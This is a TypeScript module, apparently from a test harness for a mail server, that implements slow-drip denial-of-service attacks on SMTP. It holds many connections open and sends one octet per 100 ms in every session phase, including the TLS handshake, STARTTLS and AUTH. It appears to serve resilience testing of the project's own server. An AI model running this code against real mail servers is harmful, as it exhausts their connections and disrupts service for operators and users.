/** Attacks by slowness: an octet now and then, in every phase of a session. */
import type { Socket } from 'node:net';
import type { Attack, Target } from './attack.ts';
import { buildUp, converse, dial, secure } from './attack-socket.ts';

/** Milliseconds between two octets of one connection. */
const DRIP_MS = 100;

const ENVELOPE = 'EHLO attacker.example\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<bob@example.com>\r\n';
/** The start of a TLS record that holds a ClientHello of 512 octets. */
const CLIENT_HELLO = '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03';

interface Phase {
  readonly port: 'inbound' | 'submission' | 'submissions';
  /** What leads to the phase, and the replies up to there. */
  readonly preamble: string;
  readonly replies: number;
  /** Said in the phase, octet by octet; its last octet again and again. */
  readonly drip: string;
  /** The phase lies under TLS, after this preamble of its own. */
  readonly underTls?: { readonly preamble: string; readonly replies: number };
}

const PHASES = {
  greeting: { port: 'inbound', preamble: '', replies: 0, drip: 'EHLO a' },
  command: { port: 'inbound', preamble: 'EHLO a\r\n', replies: 2, drip: 'MAIL FROM:<aa' },
  recipient: { port: 'inbound', preamble: ENVELOPE, replies: 4, drip: 'RCPT TO:<bb' },
  header: { port: 'inbound', preamble: `${ENVELOPE}DATA\r\n`, replies: 5, drip: 'Subject: aa' },
  body: { port: 'inbound', preamble: `${ENVELOPE}DATA\r\n`, replies: 5, drip: 'Subject: a\r\n\r\nbb' },
  'after the dot': {
    port: 'inbound',
    preamble: `${ENVELOPE}DATA\r\nSubject: a\r\n\r\nb\r\n.\r\n`,
    replies: 6,
    drip: 'MAIL FROM:<aa',
  },
  handshake: { port: 'submissions', preamble: '', replies: 0, drip: `${CLIENT_HELLO}aa` },
  'handshake behind STARTTLS': {
    port: 'inbound',
    preamble: 'EHLO a\r\nSTARTTLS\r\n',
    replies: 3,
    drip: `${CLIENT_HELLO}aa`,
  },
  'AUTH exchange': {
    port: 'submission',
    preamble: 'EHLO a\r\nSTARTTLS\r\n',
    replies: 3,
    underTls: { preamble: 'EHLO a\r\nAUTH LOGIN\r\n', replies: 2 },
    drip: 'QUFB',
  },
} as const satisfies Readonly<Record<string, Phase>>;

export type DripPhase = keyof typeof PHASES;

/** All phases at once, `count` connections in all. */
export const dripEverywhere: Attack = async (target) => {
  const phases = Object.values(PHASES);
  await buildUp(target.count, async (index) => {
    const phase = phases[index % phases.length];
    if (phase !== undefined) await dripIn(phase, target, index);
  });
};

/** Transactions opened and held: each has a connection of the next hop. */
export const dripRecipients: Attack = async (target) => {
  await buildUp(target.count, (index) => dripIn(PHASES.recipient, target, index));
};

async function dripIn(phase: Phase, target: Target, index: number): Promise<void> {
  const raw = dial(target[phase.port], index, target);
  if (!(await reached(raw, phase.preamble, phase.replies))) return;
  const socket = phase.underTls === undefined ? raw : await secure(raw);
  if (socket === undefined) return;
  if (phase.underTls !== undefined) await reached(socket, phase.underTls.preamble, phase.underTls.replies);
  drip(socket, phase.drip);
}

/** False when the phase was not reached in time: the server holds the client up, which is an answer too. */
async function reached(socket: Socket, preamble: string, replies: number): Promise<boolean> {
  if (replies === 0) return true;
  const late = Promise.withResolvers<boolean>();
  const timer = setTimeout(() => late.resolve(false), 2000);
  const isReached = await Promise.race([converse(socket, preamble, replies), late.promise]);
  clearTimeout(timer);
  return isReached;
}

function drip(socket: Socket, octets: string): void {
  let at = 0;
  const timer = setInterval(() => {
    socket.write(octets[Math.min(at, octets.length - 1)] ?? '', 'latin1');
    at += 1;
  }, DRIP_MS);
  socket.resume().on('close', () => clearInterval(timer));
}
